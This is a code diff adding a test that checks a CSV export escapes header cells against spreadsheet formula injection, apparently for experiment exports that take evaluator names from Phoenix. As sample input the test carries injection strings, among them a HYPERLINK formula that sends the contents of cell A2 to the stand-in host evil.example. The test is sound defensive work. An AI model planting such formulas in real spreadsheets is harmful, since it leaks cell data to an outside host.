@@ -79,6 +79,15 @@ def test_csv_chunks_stream_iso_times_in_utf8() -> None:
     assert len(parsed) == 2501
 
 
+def test_header_cells_are_escaped_like_data_cells() -> None:
+    # Evaluator names from Phoenix become header cells of experiment-examples.csv.
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    header = [evil, "+SUM(A1)", "-x", "@cmd", "\tx", "\rx", "plain", "-1"]
+    parsed = list(csv.reader(io.StringIO("".join(csv_chunks(header, [])), newline="")))
+    assert parsed == [[escape_cell(name) for name in header]]
+    assert parsed[0][0] == "'" + evil and parsed[0][6] == "plain"
+
+
 def test_export_requests_are_checked(client, auth) -> None:
     auth.create()
     auth.login()
